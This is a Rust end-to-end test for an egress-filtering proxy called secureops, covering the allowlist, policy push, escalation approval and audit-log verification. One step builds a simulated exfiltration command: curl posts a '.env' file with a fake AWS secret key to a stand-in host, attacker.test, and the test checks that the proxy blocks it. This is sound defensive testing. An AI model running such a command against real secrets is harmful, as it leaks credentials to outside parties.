//! The headline end to end, through `secureops dev` with real binaries and
//! real clients: an allowed TLS host works through the proxy, the
//! exfiltration attempt gets 403 and the attacker sees nothing, exactly one
//! audit entry records it, a policy pushed with the CLI takes effect without
//! restarts, an escalation is approved and the next attempt passes, and the
//! log verifies offline.

use std::time::Duration;

use secureops_e2e::*;

fn policy(tls_port: u16, extra: &str) -> String {
    format!(
        "version: 1\nmode: enforce\ndefault: deny\nresolved_ip_allow: [127.0.0.0/8]\n\
         egress_allowlist:\n  - allowed.test:{tls_port}\n{extra}\
         rules:\n  - id: needs-approval\n    action: escalate\n    destinations:\n      - host: escalate.test\n"
    )
}

fn env_for(data: &std::path::Path, svc: &Service) -> Vec<(&'static str, String)> {
    vec![
        ("SECUREOPS_PDP", svc.url("pdp")),
        ("SECUREOPS_ADMIN", svc.url("admin")),
        ("SECUREOPS_AUDIT", svc.url("audit")),
        (
            "SECUREOPS_ADMIN_TOKEN_FILE",
            data.join("pdp/admin.token").display().to_string(),
        ),
    ]
}

fn through_proxy(proxy: &str, ca: &std::path::Path, url: &str, extra: &[&str]) -> Curl {
    let ca = ca.display().to_string();
    let mut args = vec!["-x", proxy, "--cacert", ca.as_str()];
    args.extend_from_slice(extra);
    args.push(url);
    curl(&args)
}

#[test]
fn dev_stack_headline() {
    if !have_command("curl") {
        skip!("curl is not installed");
    }
    let tls = match TlsServer::start(&["allowed.test", "new.test", "escalate.test"]) {
        Ok(t) => t,
        Err(e) => skip!("no TLS server: {e}"),
    };
    let attacker = CountingListener::start();
    let tmp = tempfile::tempdir().expect("tempdir");
    let data = tmp.path().join("data");
    let p1 = write(tmp.path(), "p1.yaml", &policy(tls.port, ""));
    let secret = write(tmp.path(), ".env", "AWS_SECRET_ACCESS_KEY=hunter2\n");
    let mut dev = Service::spawn(
        bin_path("secureops"),
        [
            "dev",
            "--ephemeral-ports",
            "--no-sensor",
            "--quiet",
            "--data-dir",
            &data.display().to_string(),
            "--policy",
            &p1.display().to_string(),
            "--resolve",
            "allowed.test=127.0.0.1",
            "--resolve",
            "attacker.test=127.0.0.1",
            "--resolve",
            "new.test=127.0.0.1",
            "--resolve",
            "escalate.test=127.0.0.1",
        ],
        &["pdp", "admin", "audit", "proxy", "dns"],
    )
    .expect("secureops dev starts");
    let env = env_for(&data, &dev);
    let proxy = dev.url("proxy");

    // 1. Allowed host through CONNECT with real TLS end to end.
    let ok = through_proxy(
        &proxy,
        &tls.ca_file,
        &format!("https://allowed.test:{}/", tls.port),
        &[],
    );
    assert_eq!(
        ok.http,
        "200",
        "allowed host through the proxy: {ok:?}\n{}",
        dev.stderr_text()
    );

    // 2. The exfiltration attempt: 403 at the proxy, the attacker sees nothing.
    let data_arg = format!("@{}", secret.display());
    let bad = through_proxy(
        &proxy,
        &tls.ca_file,
        &format!("https://attacker.test:{}/", attacker.addr.port()),
        &["-d", &data_arg],
    );
    assert_ne!(bad.code, 0, "exfiltration must fail: {bad:?}");
    assert!(
        bad.stderr.contains("403") || bad.http == "403",
        "CONNECT answered 403: {bad:?}"
    );
    assert_eq!(
        attacker.seen(),
        (0, 0),
        "the attacker saw a connection or bytes"
    );

    // 3. A policy pushed with the CLI takes effect without restarts.
    let new_url = format!("https://new.test:{}/", tls.port);
    let before = through_proxy(&proxy, &tls.ca_file, &new_url, &[]);
    assert_ne!(
        before.http, "200",
        "new.test is not allowed yet: {before:?}"
    );
    let p2 = write(
        tmp.path(),
        "p2.yaml",
        &policy(tls.port, &format!("  - new.test:{}\n", tls.port)),
    );
    let push = cli(&["policy", "push", &p2.display().to_string()], &env);
    assert!(push.status.success(), "policy push: {push:?}");
    let after = wait_for(Duration::from_secs(5), || {
        let c = through_proxy(&proxy, &tls.ca_file, &new_url, &[]);
        (c.http == "200").then_some(c)
    });
    assert!(after.is_some(), "pushed policy did not take effect");

    // 4. An escalation is listed, approved, and the next attempt passes.
    let esc_url = format!("https://escalate.test:{}/", tls.port);
    let first = through_proxy(&proxy, &tls.ca_file, &esc_url, &[]);
    assert_ne!(
        first.http, "200",
        "escalated destination is not allowed yet: {first:?}"
    );
    let list = cli(&["escalations", "list", "--json"], &env);
    assert!(list.status.success(), "escalations list: {list:?}");
    let v: serde_json::Value = serde_json::from_slice(&list.stdout).expect("escalations json");
    let id = v
        .as_array()
        .and_then(|a| a.iter().find(|e| e["host"] == "escalate.test"))
        .and_then(|e| e["id"].as_str())
        .map(str::to_string)
        .unwrap_or_else(|| panic!("no escalation for escalate.test in {v}"));
    let approve = cli(&["escalations", "approve", &id, "--ttl", "10m"], &env);
    assert!(approve.status.success(), "approve: {approve:?}");
    let passed = wait_for(Duration::from_secs(5), || {
        let c = through_proxy(&proxy, &tls.ca_file, &esc_url, &[]);
        (c.http == "200").then_some(c)
    });
    assert!(
        passed.is_some(),
        "approved escalation did not let the next attempt pass"
    );

    // 5. Exactly one audit entry for the exfiltration attempt.
    let entries = wait_for(Duration::from_secs(10), || {
        let t = cli(&["audit", "tail", "--json"], &env);
        let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&t.stdout)
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        let n = lines
            .iter()
            .filter(|e| e["host"] == "attacker.test")
            .count();
        (n >= 1).then_some(lines)
    })
    .expect("the attempt reached the audit log");
    let attempts: Vec<_> = entries
        .iter()
        .filter(|e| e["host"] == "attacker.test")
        .collect();
    assert_eq!(
        attempts.len(),
        1,
        "exactly one entry per attempt: {attempts:?}"
    );
    assert_eq!(attempts[0]["decision"], "deny");

    // 6. Graceful stop, then the log verifies offline.
    let st = dev.terminate(Duration::from_secs(15));
    assert!(
        st.map(|s| s.success()).unwrap_or(false),
        "dev stops cleanly: {st:?}"
    );
    let verify = cli(
        &[
            "audit",
            "verify",
            "--dir",
            &data.join("audit").display().to_string(),
            "--pubkey",
            &data.join("audit/audit.key.pub").display().to_string(),
        ],
        &[],
    );
    assert!(verify.status.success(), "audit verify: {verify:?}");
}
